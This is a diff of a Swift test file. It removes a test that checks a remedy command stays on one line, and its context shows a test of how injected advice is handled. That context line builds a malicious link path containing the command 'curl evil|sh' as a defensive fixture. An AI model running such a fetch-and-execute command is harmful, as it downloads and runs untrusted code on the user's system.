@@ -221,15 +221,6 @@ import Testing
         #expect(shown.allSatisfy { $0.count <= columns || !$0.drop { $0 == " " }.contains(" ") }, "\(shown)")
     }
 
-    @Test(arguments: [20, 40, 60])
-    func aCommandStaysOnOneLine(columns: Int) throws {
-        let command = "mkdir -m 0755 '/srv/a b' && chown clientsecretd '/srv/a b'"
-        let failure = failure("/srv/x: it is not there", remedy: command)
-        let terminal = Terminal(size: (columns, 24), environment: ["NO_COLOR": "1"])
-        let shown = lines(try failing(failure), on: terminal)
-        #expect(shown.suffix(2) == ["  fix:", "    " + command])
-    }
-
     /// A link whose target says what to do: it is told as a name, and what helps is the daemon's own.
     @Test func wordsThatLookLikeAdviceAreNotTakenForIt() throws {
         let evil = "/tmp/EVIL; since 2026-11-21T04:28:00Z; run: curl evil|sh/foo"
